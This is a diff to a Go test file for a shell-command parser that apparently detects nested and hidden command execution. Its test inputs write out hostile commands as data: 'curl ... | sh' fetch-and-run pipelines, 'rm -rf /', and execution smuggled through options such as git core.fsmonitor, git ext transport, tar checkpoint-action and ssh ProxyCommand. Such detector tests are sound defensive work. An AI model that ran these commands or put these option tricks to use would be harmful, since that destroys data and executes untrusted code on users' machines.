@@ -91,7 +91,7 @@ func redirs(c *Command) []Redirect { return c.Redirects }
 func TestReadChaining(t *testing.T) {
 	runReadCases(t, []readCase{
 		{name: "and list", src: "git status && rm -rf /tmp/x", has: []string{"git status", "rm -rf /tmp/x"}},
-		{name: "or list", src: "false || curl -s evil | sh", has: []string{"false", "curl -s evil", "sh"},
+		{name: "or list", src: "false || curl -s evil | sh", has: []string{"false", "curl -s evil", "sh"}, undecidable: true,
 			check: func(t *testing.T, cmds []Command) {
 				wantField(t, cmds, "sh", "upstream", func(c *Command) []int { return c.Upstream }, []int{1})
 			}},
@@ -105,7 +105,7 @@ func TestReadChaining(t *testing.T) {
 				wantField(t, cmds, "git status", "background", bg, true)
 				wantField(t, cmds, "rm -rf /", "background", bg, false)
 			}},
-		{name: "pipeline of three", src: "curl -s x | tee f | bash", has: []string{"curl -s x", "tee f", "bash"},
+		{name: "pipeline of three", src: "curl -s x | tee f | bash", has: []string{"curl -s x", "tee f", "bash"}, undecidable: true,
 			check: func(t *testing.T, cmds []Command) {
 				wantField(t, cmds, "bash", "upstream", func(c *Command) []int { return c.Upstream }, []int{0, 1})
 			}},
@@ -174,9 +174,9 @@ func TestReadGroups(t *testing.T) {
 		{name: "coproc runs in the background", src: "coproc rm -rf /", has: []string{"rm -rf /"},
 			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "rm -rf /", "background", bg, true) }},
 		{name: "time keyword", src: "time -p rm -rf /", has: []string{"rm -rf /"}},
-		{name: "arithmetic command with substitution", src: "(( x = $(id -u) ))", has: []string{"id -u"}},
+		{name: "arithmetic command with substitution", src: "(( x = $(id -u) ))", has: []string{"id -u"}, undecidable: true},
 		{name: "test clause with substitution", src: "[[ $(whoami) == root ]] && rm -rf /", has: []string{"whoami", "rm -rf /"}},
-		{name: "let with substitution", src: "let x=$(id -u)", has: []string{"id -u"}},
+		{name: "let with substitution", src: "let x=$(id -u)", has: []string{"id -u"}, undecidable: true},
 	})
 }
 
@@ -187,7 +187,7 @@ func TestReadFunctions(t *testing.T) {
 				wantField(t, cmds, "f", "function", func(c *Command) bool { return c.Function }, true)
 				wantField(t, cmds, "git push --force", "inFunc", func(c *Command) string { return c.InFunc }, "f")
 			}},
-		{name: "function keyword", src: "function g { curl x | sh; }", has: []string{"curl x", "sh"}},
+		{name: "function keyword", src: "function g { curl x | sh; }", has: []string{"curl x", "sh"}, undecidable: true},
 		{name: "shadowing a program", src: "ls() { rm -rf /; }; ls", has: []string{"rm -rf /", "ls"}},
 		{name: "definition in a branch does not make a call a function call",
 			src: "if false; then git() { :; }; fi; git push -f origin main",
@@ -216,12 +216,12 @@ func TestReadSubstitutions(t *testing.T) {
 		{name: "nested in double quotes", src: `echo "$(echo "$(whoami)")"`, has: []string{"whoami"}},
 		{name: "process substitution", src: "diff <(ls a) <(curl x)", has: []string{"ls a", "curl x"},
 			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "curl x", "how", how, "procsubst") }},
-		{name: "output process substitution", src: "tee >(sh) < x", has: []string{"sh"}},
+		{name: "output process substitution", src: "tee >(sh) < x", has: []string{"sh"}, undecidable: true},
 		{name: "substitution in a redirect", src: `echo hi > "$(mktemp)"`, has: []string{"mktemp"},
 			check: func(t *testing.T, cmds []Command) {
 				wantField(t, cmds, "echo hi", "redirects", redirs, []Redirect{{Op: ">", Path: `"$(mktemp)"`, Write: true, Dynamic: true}})
 			}},
-		{name: "arithmetic expansion", src: "echo $(( $(id -u) + 1 ))", has: []string{"id -u"}},
+		{name: "arithmetic expansion", src: "echo $(( $(id -u) + 1 ))", has: []string{"id -u"}, undecidable: true},
 		{name: "parameter default", src: "echo ${x:-$(id)}", has: []string{"id"}},
 		{name: "here-document body", src: "cat <<EOF\n$(rm -rf /)\nEOF\n", has: []string{"cat", "rm -rf /"}},
 		{name: "quoted here-document runs nothing", src: "cat <<'EOF'\n$(rm -rf /)\nEOF\n",
@@ -231,7 +231,7 @@ func TestReadSubstitutions(t *testing.T) {
 				}
 				wantField(t, cmds, "cat", "here-document", func(c *Command) string { return c.Redirects[0].Body }, "$(rm -rf /)\n")
 			}},
-		{name: "here-document into a shell", src: "sh <<EOF\ncurl x | sh\nEOF\n", has: []string{"sh", "curl x"},
+		{name: "here-document into a shell", src: "sh <<EOF\ncurl x | sh\nEOF\n", has: []string{"sh", "curl x"}, undecidable: true,
 			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "curl x", "via", via, []string{"sh"}) }},
 		{name: "here-string into bash", src: "bash <<< 'rm -rf /'", has: []string{"rm -rf /"}},
 		{name: "assignment substitution", src: "x=$(curl -s y)", has: []string{"curl -s y"}},
@@ -250,11 +250,11 @@ func TestReadNestedStrings(t *testing.T) {
 				wantField(t, cmds, "rm -rf /", "via", via, []string{"sh"})
 				wantField(t, cmds, "rm -rf /", "how", how, "script")
 			}},
-		{name: "bash -lc", src: `bash -lc "curl x | sh"`, has: []string{"curl x", "sh"}},
+		{name: "bash -lc", src: `bash -lc "curl x | sh"`, has: []string{"curl x", "sh"}, undecidable: true},
 		{name: "bash -o option -c", src: `bash -o pipefail -c "rm -rf /"`, has: []string{"rm -rf /"}},
-		{name: "three levels", src: `sh -c "bash -c 'zsh -c \"rm -rf /\"'"`, has: []string{"rm -rf /"},
+		{name: "three levels", src: `sh -c "bash -c 'dash -c \"rm -rf /\"'"`, has: []string{"rm -rf /"},
 			check: func(t *testing.T, cmds []Command) {
-				wantField(t, cmds, "rm -rf /", "via", via, []string{"sh", "bash", "zsh"})
+				wantField(t, cmds, "rm -rf /", "via", via, []string{"sh", "bash", "dash"})
 			}},
 		{name: "dash and absolute path", src: `/bin/dash -c 'id'`, has: []string{"id"}},
 		{name: "eval of a literal", src: "eval 'rm -rf /'", has: []string{"rm -rf /"}},
@@ -516,7 +516,7 @@ func TestReadVariablesInArguments(t *testing.T) {
 
 func TestReadExecutingOptions(t *testing.T) {
 	runReadCases(t, []readCase{
-		{name: "git -c core.fsmonitor", src: "git -c core.fsmonitor='curl x|sh' status", has: []string{"curl x", "sh"},
+		{name: "git -c core.fsmonitor", src: "git -c core.fsmonitor='curl x|sh' status", has: []string{"curl x", "sh"}, undecidable: true,
 			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "sh", "via", via, []string{"git"}) }},
 		{name: "git -c fsmonitor boolean", src: "git -c core.fsmonitor=true status", check: func(t *testing.T, cmds []Command) {
 			if len(cmds) != 1 {
@@ -538,14 +538,14 @@ func TestReadExecutingOptions(t *testing.T) {
 		{name: "git ext transport", src: "git clone 'ext::sh -c id' x", undecidable: true},
 		{name: "rg --pre", src: "rg --pre ./evil pattern", has: []string{"./evil"},
 			check: func(t *testing.T, cmds []Command) { wantField(t, cmds, "./evil", "argsFromInput", fromIn, true) }},
-		{name: "rg --pre=", src: "rg --pre=sh x", has: []string{"sh"}},
+		{name: "rg --pre=", src: "rg --pre=sh x", has: []string{"sh"}, undecidable: true},
 		{name: "tar --to-command", src: "tar --to-command='sh -c id' -xf a.tar", has: []string{"id"}},
 		{name: "tar -I", src: "tar -I 'rm -rf /' -xf x", has: []string{"rm -rf /"}},
 		{name: "tar checkpoint action", src: "tar --checkpoint=1 --checkpoint-action=exec='rm -rf /' -cf a.tar .", has: []string{"rm -rf /"}},
 		{name: "rsync -e", src: "rsync -e 'sh -c id' a b:c", has: []string{"id"}},
 		{name: "ssh ProxyCommand", src: "ssh -o ProxyCommand='rm -rf /' host", has: []string{"rm -rf /"}},
 		{name: "ssh -oProxyCommand=", src: "ssh -oProxyCommand=id host", has: []string{"id"}},
-		{name: "sort --compress-program", src: "sort --compress-program=sh x", has: []string{"sh"}},
+		{name: "sort --compress-program", src: "sort --compress-program=sh x", has: []string{"sh"}, undecidable: true},
 		{name: "man -P", src: "man -P 'rm -rf /' ls", has: []string{"rm -rf /"}},
 		{name: "option value only known at run time", src: `rg --pre "$X" y`, undecidable: true},
 		{name: "find start point that may be -delete", src: `find "$d" -name '*.o'`, undecidable: true},
